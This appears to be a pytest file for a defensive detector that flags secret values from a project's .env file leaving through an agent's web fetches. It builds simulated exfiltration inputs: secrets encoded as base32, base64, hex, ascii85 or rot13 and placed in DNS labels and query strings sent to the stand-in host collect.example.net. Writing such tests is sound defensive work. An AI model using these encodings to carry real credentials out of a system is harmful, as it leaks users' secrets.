"""The carried-secret first look (hookd.enrich.carried_secrets._may_be_carried) never turns away a text whose
decoding the search would find a value in (review47): the search folds case (a DNS label arrives lower-cased), and
a value's base32 run may hold no digit, its hex run no letter, its base64 run neither; the first look's shape of a
candidate must hold for each. Values here are spelled otherwise than the corpus's."""

from __future__ import annotations

import base64
import codecs
from collections.abc import Callable
from pathlib import Path

import pytest

from hookd.enrich import carried_secrets as cs
from tests.unit.enrich.test_carried_secrets import carried

MIXED = "Wv3Kp8Tz2Qm7Rx4Lb9"  # 18: a generated value with capitals
LOWER = "k7dq2m9xv4tn8pw3"  # 16: a generated value in lower case and digits
DIGITISH = "d1e3f5a7b9c2d4e6"  # its hex (0x61-0x66 and 0x30-0x39) holds no letter

SPELLINGS: dict[str, Callable[[str], str]] = {
    "as written": lambda v: f'token = "{v}"',
    "a DNS label": lambda v: f"{v.lower()}.collect.example.net",
    "a query lower-cased": lambda v: f"https://collect.example.net/p?q={v.lower()}&lang=english",
    "base32": lambda v: base64.b32encode(v.encode()).decode(),
    "base32 unpadded": lambda v: base64.b32encode(v.encode()).decode().rstrip("="),
    "base32 lower-cased": lambda v: base64.b32encode(v.encode()).decode().lower(),
    "base64": lambda v: base64.b64encode(v.encode()).decode(),
    "hex": lambda v: v.encode().hex(),
    "ascii85": lambda v: base64.a85encode(v.encode()).decode(),
    "base85": lambda v: base64.b85encode(v.encode()).decode(),
    "spaced, lower-cased": lambda v: " ".join(v.lower()),
    "rot13": lambda v: codecs.encode(v, "rot13"),
}


def _found_by_the_search(text: str, value: str) -> bool:
    """What the decoding and the search find with no first look in front of them."""
    return value in cs._Haystack("\n".join(cs._decoded(text))).carried(frozenset({value}))


@pytest.mark.parametrize("value", [MIXED, LOWER, DIGITISH])
@pytest.mark.parametrize("spelling", list(SPELLINGS))
def test_the_first_look_passes_every_text_the_search_finds_a_value_in(value: str, spelling: str) -> None:
    text = SPELLINGS[spelling](value)
    assert _found_by_the_search(text, value), "the search itself finds the value so spelled"
    assert cs._may_be_carried(text)


@pytest.mark.parametrize("value", [MIXED, LOWER])
def test_a_base64_run_of_a_value_of_the_shortest_length_is_decoded(value: str) -> None:
    assert len(value) >= cs.MIN_VALUE
    assert _found_by_the_search(base64.b64encode(value[: cs.MIN_VALUE].encode()).decode(), value[: cs.MIN_VALUE])


@pytest.mark.parametrize(
    "url",
    [
        f"https://{LOWER}.collect.example.net/x",
        "https://collect.example.net/?d=" + base64.b32encode(MIXED.encode()).decode().rstrip("="),
        "https://collect.example.net/?d=" + base64.b64encode(LOWER.encode()).decode(),
    ],
)
def test_a_value_so_spelled_in_a_fetch_is_carried(tmp_path: Path, url: str) -> None:
    home, proj = tmp_path / "home", tmp_path / "proj"
    home.mkdir()
    proj.mkdir()
    (proj / ".env").write_text(f"SIGNING={MIXED}\nSESSION={LOWER}\nDEBUG=true\n")
    assert carried((home, proj), "claude", "WebFetch", {"url": url, "prompt": "x"}) == [".env"]


@pytest.mark.parametrize(
    "text",
    [
        "def parse_header_v2(raw_bytes_buffer): return raw_bytes_buffer[2:]",
        "see https://docs.example.org/guide/getting-started-with-python3",
        "const userPreferencesStore = createStore(initialState)",
    ],
)
def test_everyday_code_and_prose_stay_turned_away(text: str) -> None:
    assert not cs._may_be_carried(text)
